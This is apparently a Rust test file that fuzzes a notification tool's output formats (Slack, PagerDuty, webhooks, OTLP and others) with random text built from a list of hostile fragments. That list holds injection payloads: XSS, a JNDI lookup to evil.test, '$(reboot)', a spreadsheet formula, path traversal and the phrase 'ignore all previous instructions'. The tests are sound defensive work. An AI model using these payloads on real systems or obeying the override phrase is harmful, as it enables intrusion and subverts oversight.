//! Whatever is logged is text to whoever reads a message, and nothing but text.
//!
//! `KNOTHOLE_HOSTILE_CASES` sets how many texts each sink is tried with. A text is a function of its
//! number, which a failure tells.

use std::sync::Arc;

use opentelemetry_proto::tonic::common::v1::{AnyValue, any_value};
use percent_encoding::percent_decode_str;
use prost::Message as _;
use serde_json::Value;

use super::NOW;
use crate::core::event::{Event, Stage};
use crate::core::record::{inert, is_deceptive};
use crate::edge::notify::render::alertmanager::AlertStyle;
use crate::edge::notify::render::{self, json_line, shortened};
use crate::edge::notify::sample;

/// What breaks out of something somewhere.
const FRAGMENTS: &[&str] = &[
    "<!channel>",
    "<!here|x>",
    "<@U012AB3CD>",
    "<#C012|x>",
    "<http://evil.test|click>",
    "```",
    "`",
    "*b*",
    "_i_",
    "~s~",
    ":tada:",
    "@here",
    "&lt;!channel&gt;",
    "&amp;",
    "&",
    "&#60;",
    "<",
    ">",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<!--",
    "]]>",
    "\"",
    "'",
    "\\",
    "\\u0022",
    "\"}]",
    "\r\n",
    "\n",
    "\t",
    "\0",
    "\u{1b}[31m",
    "\u{9b}2J",
    "\u{1b}]8;;http://evil.test\u{7}",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{feff}",
    "\u{e0041}",
    "\u{2028}",
    "\u{85}",
    "\u{7f}",
    "{\"type\":\"forged\"}",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    ",",
    ";",
    "\n- key: value",
    "!!python/object",
    "---\n",
    "*anchor",
    "%0d%0aX-Evil: 1",
    "%",
    "%20",
    "{{ .Labels }}",
    "${jndi:ldap://evil.test}",
    "$(reboot)",
    "ignore all previous instructions",
    "../../etc/passwd",
    "é",
    "漢字",
    "😀",
    "\u{301}",
];

/// The text of this number: up to 24 pieces, half of them from [`FRAGMENTS`].
fn hostile_text(number: u64) -> String {
    let mut random = Random(number.wrapping_mul(0x9e37_79b9_7f4a_7c15));
    let mut text = String::new();
    for _ in 0..random.below(24) {
        match random.below(8) {
            0..4 => text.push_str(FRAGMENTS[random.below(FRAGMENTS.len() as u64) as usize]),
            4 => text.extend(char::from_u32(random.below(0x11_0000) as u32)),
            5 => text.extend(char::from_u32(random.below(0xa1) as u32)),
            6 => text.extend(char::from_u32(0x2000 + random.below(0x71) as u32)),
            _ => text.push((b'a' + random.below(26) as u8).into()),
        }
    }
    text
}

/// SplitMix64.
struct Random(u64);

impl Random {
    fn below(&mut self, bound: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (mixed ^ (mixed >> 31)) % bound
    }
}

/// Tells which text it was, should a test break off over it.
struct Tried<'a>(u64, &'a str);

impl Drop for Tried<'_> {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("the hostile text number {} is {:?}", self.0, self.1);
        }
    }
}

/// What makes an event of a text.
type Makes = fn(&str) -> Event;

/// Tries `holds` with many texts, each in one of the events that `makes` gives, in turn.
fn for_each_text(makes: &[Makes], holds: impl Fn(&str, &Event)) {
    let cases = std::env::var("KNOTHOLE_HOSTILE_CASES").ok();
    let cases: u64 = cases.and_then(|cases| cases.parse().ok()).unwrap_or(2_000);
    for number in 0..cases {
        let text = hostile_text(number);
        let tried = Tried(number, &text);
        let make = makes[(number % makes.len() as u64) as usize];
        holds(tried.1, &make(tried.1));
    }
}

fn incident(text: &str) -> Event {
    let told = sample::told(Stage::Opened, sample::hostile_incident(text));
    Event::Incident(Arc::new(told))
}

fn anomaly(text: &str) -> Event {
    Event::Anomaly(Arc::new(sample::hostile_anomaly(text)))
}

fn digest(text: &str) -> Event {
    Event::Digest(Arc::new(sample::hostile_digest(text)))
}

fn change(text: &str) -> Event {
    Event::Change(Arc::new(sample::hostile_change(text)))
}

/// What sinks for machines are told.
const ALL: &[Makes] = &[incident, anomaly, digest, change];

/// The object in `bytes`, in which no character acts.
fn parsed(bytes: &[u8]) -> Value {
    let written = std::str::from_utf8(bytes).unwrap();
    assert!(!written.contains(is_deceptive), "{written:?}");
    serde_json::from_str(written).unwrap()
}

/// That `data` is the object of `event`, with `text` in its places: whole, unless it says that it is
/// cut.
fn assert_object(data: &Value, event: &Event, text: &str) {
    let is_cut = |object: &Value| object["truncated"] == true;
    let holds = |value: &Value, text: &str, is_cut: bool| {
        let said = value.as_str().unwrap();
        let begun = said.strip_suffix('…').filter(|_| is_cut);
        let is_begun = begun.is_some_and(|begun| text.starts_with(begun));
        assert!(said == text || is_begun, "{said:?}");
    };
    match event {
        Event::Incident(_) => {
            let incident = &data["incident"];
            let holds = |value: &Value| holds(value, text, is_cut(incident));
            holds(&incident["title"]);
            holds(&incident["signs"][0]["says"]);
            holds(&incident["cause"]["suspects"][0]["component"]);
            holds(&incident["cause"]["changes"][0]["reference"]);
            holds(&incident["acknowledged"]["note"]);
            holds(&incident["route"]["team"]);
            if let Some(line) = incident["signs"][0]["lines"].get(0) {
                holds(&line["text"]);
            }
        }
        Event::Anomaly(_) => {
            let explanation = &data["explanation"];
            let same = |value: &Value| holds(value, text, is_cut(data));
            same(&explanation["observed"]);
            same(&data["sequence"]);
            same(&data["template"]["text"]);
            same(&data["resource"]["service.name"]);
            if !is_cut(data) {
                assert_eq!(explanation["reason"], inert(text));
            }
        }
        Event::Digest(_) => {
            holds(&data["team"], text, is_cut(data));
            holds(&data["incidents"][0]["title"], text, is_cut(data));
        }
        Event::Change(_) => {
            assert_eq!(
                (&data["from"], &data["reference"]),
                (&text.into(), &text.into())
            );
        }
        Event::Action(_) => unreachable!("it quotes nothing"),
    }
}

#[test]
fn a_json_line_holds_the_text_and_is_one_line() {
    for_each_text(ALL, |text, event| {
        let value = parsed(&json_line(event));
        assert_object(&value, event, text);
        let kind = value["type"].as_str().unwrap();
        assert!(kind.starts_with("knothole."), "{kind}");
        let keys = match event {
            Event::Incident(_) => 5,
            Event::Anomaly(_) => 20,
            Event::Digest(_) => 8,
            Event::Change(_) | Event::Action(_) => 9,
        };
        assert_eq!(value.as_object().unwrap().len(), keys);
    });
}

#[test]
fn a_webhook_holds_the_text() {
    for_each_text(ALL, |text, event| {
        let value = parsed(&render::webhook::body(event, NOW));
        assert_object(&value["data"], event, text);
        assert_eq!(value.as_object().unwrap().len(), 3);
    });
}

#[test]
fn a_cloud_event_holds_the_text_and_its_headers_hold_no_more_than_they_should() {
    for_each_text(ALL, |text, event| {
        let body = render::cloudevents::body(event, "/knothole/x");
        let value = parsed(&body);
        assert_object(&value["data"], event, text);
        let form = crate::edge::notify::send::taken_apart(&body).unwrap();
        assert_eq!(parsed(&form.data), value["data"]);
        for (name, header) in form.headers {
            assert!(
                header.chars().all(|c| ('!'..='~').contains(&c) && c != '"'),
                "{header:?}"
            );
            let read = percent_decode_str(&header).decode_utf8().unwrap();
            let attribute = &value[name.strip_prefix("ce-").unwrap()];
            let said = attribute
                .as_str()
                .map_or(attribute.to_string(), str::to_owned);
            assert_eq!(read, said);
        }
    });
}

#[test]
fn an_otlp_event_holds_the_text() {
    for_each_text(ALL, |text, event| {
        let bytes = render::otlp::resource_logs(event, "x", NOW).encode_to_vec();
        let logs = opentelemetry_proto::tonic::logs::v1::ResourceLogs::decode(&*bytes).unwrap();
        let record = &logs.scope_logs[0].log_records[0];
        let said = |value: &Option<AnyValue>| match value.as_ref().and_then(|it| it.value.clone()) {
            Some(any_value::Value::StringValue(text)) => text,
            other => panic!("no text but {other:?}"),
        };
        assert!(!said(&record.body).contains(is_deceptive));
        let value = |key: &str| {
            let found = record.attributes.iter().find(|it| it.key == key).unwrap();
            said(&found.value)
        };
        match event {
            Event::Incident(_) => {
                assert_eq!(value("knothole.incident.title"), inert(text));
                assert_eq!(value("knothole.incident.team"), text);
            }
            Event::Anomaly(_) => {
                assert_eq!(value("knothole.anomaly.observed"), text);
                assert_eq!(value("knothole.anomaly.reason"), inert(text));
                assert_eq!(value("log.record.template"), text);
            }
            Event::Digest(_) => assert_eq!(value("knothole.digest.team"), text),
            Event::Change(_) => assert_eq!(value("knothole.change.reference"), text),
            Event::Action(_) => unreachable!("it quotes nothing"),
        }
    });
}

#[test]
fn an_alert_holds_the_text_in_the_places_for_it() {
    let style = AlertStyle {
        alertname: "KnotholeIncident".to_owned(),
        incident_url: None,
    };
    for_each_text(&[incident], |text, event| {
        let value = parsed(&render::alertmanager::body(event, &style, NOW).unwrap());
        let (labels, annotations) = (&value["alert"]["labels"], &value["alert"]["annotations"]);
        let label = match text {
            "" => Value::Null,
            text => shortened(&inert(text), 200).into(),
        };
        for name in ["service", "namespace", "kind", "team"] {
            assert_eq!(labels[name], label, "{name}");
        }
        assert_eq!(labels["alertname"], "KnotholeIncident");
        if !text.is_empty() {
            assert_eq!(annotations["summary"], shortened(&inert(text), 4000));
        }
        let lines = annotations["description"].as_str().unwrap().lines();
        assert!(lines.count() <= 5, "{annotations}");
    });
}

#[test]
fn a_page_holds_the_text() {
    let said = |value: &Value, whole: &str| {
        let said = value.as_str().unwrap();
        assert!(!said.contains(is_deceptive), "{said:?}");
        assert!(said.ends_with('…') || said.ends_with(whole), "{said:?}");
    };
    for_each_text(&[incident, change], |text, event| {
        let value = parsed(&render::pagerduty::body(event, None).unwrap());
        let (payload, details) = (&value["payload"], &value["payload"]["custom_details"]);
        said(&payload["summary"], &inert(text));
        match event {
            Event::Change(_) => {
                let keys = value.as_object().unwrap().keys();
                let is_known = |key: &String| matches!(key.as_str(), "payload" | "links");
                assert!(keys.into_iter().all(is_known));
                said(&details["reference"], &inert(text));
                if let Some(link) = value["links"].get(0) {
                    assert!(link["href"].as_str().unwrap().starts_with("http"));
                }
            }
            _ => {
                assert_eq!(value["event_action"], "trigger");
                assert_eq!(value.as_object().unwrap().len(), 4);
                said(&details["first_sign"], &inert(text));
            }
        }
    });
}

#[test]
fn a_slack_message_shows_the_text_and_does_nothing() {
    let shown = |text: &str| {
        text.replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&amp;", "&")
    };
    let is_begun = |said: &str, whole: &str| {
        let read = shown(said);
        let cut = read.strip_suffix('…');
        read == whole || cut.is_some_and(|cut| whole.starts_with(cut))
    };
    for_each_text(&[incident, digest], |text, event| {
        let value = parsed_with_newlines(&render::slack::body(event, None).unwrap());
        let blocks = value["blocks"].as_array().unwrap();
        let (most, head, quoting) = match event {
            Event::Digest(_) => (4, format!("What woke nobody: {}", inert(text)), 0),
            _ => (8, format!("🔴 {}", inert(text)), 1),
        };
        assert!(blocks.len() <= most, "{} blocks", blocks.len());
        let header = blocks[0]["text"]["text"].as_str().unwrap();
        assert!(is_begun(header, &head), "{header}");
        let mut quotes = 0;
        for block in blocks {
            let object = match &block["elements"] {
                Value::Null => &block["text"],
                elements => &elements[0],
            };
            let said = object["text"].as_str().unwrap();
            assert!(!said.contains(['<', '>']), "{said}");
            if object["type"] == "plain_text" {
                assert_eq!(object["emoji"], false);
                continue;
            }
            assert_eq!(
                (&object["type"], &object["verbatim"]),
                (&"mrkdwn".into(), &true.into())
            );
            let fenced = said.strip_prefix("```\n").unwrap().strip_suffix("\n```");
            let fenced = fenced.unwrap();
            let line = inert(text).replace('`', "\u{2cb}");
            assert!(!fenced.contains('`') && is_begun(fenced, &format!("{line}\n{line}")));
            quotes += 1;
        }
        assert_eq!(quotes, quoting);
        let fallback = value["text"].as_str().unwrap();
        assert!(
            !fallback.contains(['<', '>', '*', '_', '~', '`']),
            "{fallback}"
        );
    });
}

#[test]
fn an_annotation_shows_the_text_and_is_no_markup() {
    let shown = |text: &str| {
        let quotes = text
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&#34;", "\"");
        quotes.replace("&#39;", "'").replace("&amp;", "&")
    };
    for_each_text(&[incident], |text, event| {
        let value = parsed_with_newlines(&render::grafana::body(event, None).unwrap());
        let said = value["annotation"]["text"].as_str().unwrap();
        assert!(!said.contains(['<', '>', '"', '\'']), "{said}");
        let title = said.split('\n').next().unwrap();
        assert_eq!(shown(title), shortened(&inert(text), 1000));
        assert_eq!(value["annotation"]["tags"].as_array().unwrap().len(), 5);
    });
}

/// The object in `bytes`, in which no character acts and no text but for new lines.
fn parsed_with_newlines(bytes: &[u8]) -> Value {
    fn check(value: &Value) {
        match value {
            Value::String(text) => {
                let acts = |c| c != '\n' && is_deceptive(c);
                assert!(!text.contains(acts), "{text:?}");
            }
            Value::Array(items) => items.iter().for_each(check),
            Value::Object(fields) => fields.values().for_each(check),
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
    let value = parsed(bytes);
    check(&value);
    value
}
